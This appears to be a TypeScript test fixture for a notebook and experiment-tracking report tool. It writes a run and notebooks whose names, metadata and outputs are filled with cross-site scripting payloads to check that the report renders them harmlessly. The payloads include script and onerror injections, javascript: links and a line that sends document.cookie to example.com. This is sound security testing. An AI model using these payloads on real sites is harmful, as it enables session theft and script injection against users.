/**
 * A tracked run whose every string that can reach the report tries to run script: run name,
 * params, tags and metric keys (written into the store as another tool could, since the Tracker
 * refuses such keys), the error, the evaluation files, notebook file names, and notebooks written
 * as raw JSON (not through melbook's types) with script in execution counts, metadata, tags,
 * stream names and text, tracebacks, markdown, raw cells, mime types, HTML and SVG outputs.
 * Each attempt calls `alert(...)` (a dialog) or asks for https://example.com (a request), so a
 * browser test only has to watch for those. Beside them, figures that must still draw: the
 * plotly figures of the run and a notebook, a PNG, and an HTML output that draws with its own
 * script inside its frame.
 */
import { promises as fs, mkdtempSync } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { Tracker } from '../../../src/tracking';
import { PLOTLY_MIME, figureBundle, pngBundle } from '../../../src/viz/display';
import { classBalanceFigure } from '../../../src/viz/plots';
import { SPECTROGRAM_PNG } from './fixture-run';

/** An `<img>` whose error handler opens a dialog naming `where`. */
const img = (where: string) => `<img src=x onerror="alert('${where}')">`;
/** A script element opening a dialog naming `where`. */
const script = (where: string) => `<script>alert('${where}')</script>`;
/** Both, to try element text and attribute contexts at once. */
export const attack = (where: string) => `"'></code></pre>${script(where)}${img(where)}`;

/** HTML output that tries every way out of its frame: the page, the network, dialogs, popups, navigation. */
export const HOSTILE_HTML = [
  script('html'),
  img('html-img'),
  '<svg onload="alert(\'html-svg\')"></svg>',
  "<script>fetch('https://example.com/fetch?c=' + document.cookie).catch(function () {});</script>",
  "<script>try { parent.document.body.innerHTML = 'pwned'; } catch (e) { document.body.dataset.parent = 'blocked'; }</script>",
  "<script>try { window.open('https://example.com/popup'); } catch (e) {}</script>",
  "<script>try { top.location = 'https://example.com/top'; } catch (e) {}</script>",
  '<img src="https://example.com/pixel.png">',
  '<iframe src="https://example.com/frame"></iframe>',
  '<link rel="stylesheet" href="https://example.com/style.css">',
  '<script src="https://example.com/script.js"></script>',
  '<form action="https://example.com/form" method="post"><input name="a" value="b"></form>',
  "<script>try { document.forms[0].submit(); } catch (e) {}</script>",
  '<a id="js" href="javascript:alert(\'html-link\')">x</a><script>document.getElementById("js").click();</script>',
].join('\n');

/** HTML output whose own script draws inside its frame: allowed, and visible. */
export const DRAWING_HTML = '<div id="drawn">not drawn</div><script>document.getElementById("drawn").textContent = "drawn by its own script";</script>';

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="alert('svg-onload')"><script>alert('svg')</script><rect width="20" height="20" fill="red"/></svg>`;

const md = (source: string, extra: Record<string, unknown> = {}) => ({ cell_type: 'markdown', source, metadata: { tags: [attack('md-tag')] }, ...extra });

/** The cells of the hostile notebook, as raw nbformat JSON. */
function hostileCells(): unknown[] {
  const fig = classBalanceFigure([{ class: attack('plotly-class'), train: 3, validation: 1, test: 2 }]);
  fig.layout.title = { text: `<a href="javascript:alert('plotly-title')">title</a> ${img('plotly-title-img')}` };
  const figure = figureBundle(fig);
  const drawingFigure = figureBundle(classBalanceFigure([{ class: 'in a frame', train: 1, validation: 2, test: 3 }]), { includePlotlyJs: true, id: 'frame-figure' });
  delete drawingFigure.data[PLOTLY_MIME]; // a figure shown only as HTML, as another tool would: it draws inside its frame
  return [
    md(`# Hostile ${script('md')} ${img('md-img')}\n\n[link](javascript:alert('md-link')) [link2](JaVaScRiPt:alert('md-link2')) <javascript:alert('md-auto')>\n\n` +
      "![svg](attachment:a.svg) ![js](javascript:alert('md-image')) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
      { attachments: { 'a.svg': { 'image/svg+xml': SVG } } }),
    { cell_type: 'raw', source: attack('raw'), metadata: {} },
    {
      cell_type: 'code', execution_count: 1, source: `</code></pre>${attack('source')}`, outputs: [],
      metadata: { tags: [attack('tag'), 7], melbook: { status: attack('status'), duration: attack('duration'), start: attack('start') }, [attack('meta-key')]: attack('meta') },
    },
    {
      cell_type: 'code', execution_count: 2, source: 'outputs', metadata: { tags: attack('tags-not-a-list') },
      outputs: [
        { output_type: 'stream', name: attack('stream-name'), text: [attack('stream'), '\n'] },
        { output_type: 'error', ename: attack('ename'), evalue: attack('evalue'), traceback: [attack('traceback')] },
        { output_type: 'execute_result', execution_count: 2, data: { 'text/plain': attack('plain'), [attack('mime')]: attack('mime-data') }, metadata: {} },
        { output_type: 'display_data', data: { [attack('only-mime')]: 1 }, metadata: {} },
        { output_type: attack('output-type') },
        { output_type: 'display_data', data: { 'text/html': HOSTILE_HTML }, metadata: {} },
        { output_type: 'display_data', data: { 'image/svg+xml': SVG }, metadata: { 'image/svg+xml': { width: attack('svg-width') } } },
        { output_type: 'display_data', data: { 'text/markdown': attack('output-md') }, metadata: {} },
        { output_type: 'display_data', data: { 'application/json': { [attack('json-key')]: attack('json') } }, metadata: {} },
      ],
    },
    {
      cell_type: 'code', execution_count: 3, source: 'figures', metadata: {},
      outputs: [
        { output_type: 'display_data', ...figure },
        { output_type: 'display_data', ...pngBundle(SPECTROGRAM_PNG) },
        { output_type: 'display_data', data: { 'text/html': DRAWING_HTML }, metadata: {} },
        { output_type: 'display_data', ...drawingFigure },
      ],
    },
  ];
}

/** The hostile notebook as a file's JSON; its metadata attacks too. */
export function hostileNotebook(): unknown {
  return {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: {
      kernelspec: { name: attack('kernel'), display_name: attack('kernel-name') },
      melbook: { engine: attack('engine'), start_time: attack('start-time'), duration: 1, exception: false, parameters: { [attack('param-key')]: attack('param'), n: [attack('param-list')] } },
    },
    cells: hostileCells(),
  };
}

/** A notebook the reader refuses: its execution count is markup. */
export function badCountNotebook(): unknown {
  return { nbformat: 4, nbformat_minor: 5, metadata: {}, cells: [{ cell_type: 'code', execution_count: img('count'), source: '', metadata: {}, outputs: [] }] };
}

export interface HostileRun {
  root: string;
  runId: string;
}

/** Writes the hostile run into a new temporary store; the caller removes `root`. */
export async function createHostileRun(): Promise<HostileRun> {
  const root = mkdtempSync(path.join(os.tmpdir(), 'melbook-hostile-'));
  let t = Date.UTC(2024, 4, 1, 10, 0, 0);
  const tracker = new Tracker({ root, gitCommit: null, user: attack('user'), sourceName: attack('source'), now: () => (t += 1000) });
  const run = await tracker.startRun({ experimentName: 'hostile', runName: attack('run-name'), tags: { 'melbook.backend': attack('backend') } });
  await run.logParams({ note: attack('param-value') });
  for (let epoch = 0; epoch < 3; epoch++) await run.logMetrics({ loss: 1 / (epoch + 1), accuracy: 0.5 + 0.1 * epoch }, epoch);
  await run.logJson({ classNames: ['0', attack('class')], matrix: [[3, 1], [1, 3]] }, 'evaluation/test_confusion.json');
  await run.logJson({ [attack('speaker')]: { accuracy: 0.75, count: 4 } }, 'evaluation/test_per_speaker.json');
  await run.logText(JSON.stringify(hostileNotebook()), 'notebooks/1-hostile.ipynb');
  await run.logText(JSON.stringify(badCountNotebook()), 'notebooks/2-bad-count.ipynb');
  await run.logText(JSON.stringify({ nbformat: 4, metadata: {}, cells: [] }), `notebooks/3-${img('file-name')}.ipynb`);
  await run.recordError(new Error(attack('error')));
  await run.endRun('FAILED');
  // Keys the Tracker refuses but a store written by another tool may hold.
  const runDir = path.dirname(await run.artifactDir());
  const key = img('key');
  await fs.writeFile(path.join(runDir, 'metrics', key), `${t} 0.5 0\n`);
  await fs.mkdir(path.join(runDir, 'metrics', img('metric-group')), { recursive: true });
  await fs.writeFile(path.join(runDir, 'metrics', img('metric-group'), key), `${t} 0.25 1\n`);
  await fs.writeFile(path.join(runDir, 'params', key), attack('param-by-key'));
  await fs.writeFile(path.join(runDir, 'tags', key), attack('tag-by-key'));
  return { root, runId: run.runId };
}
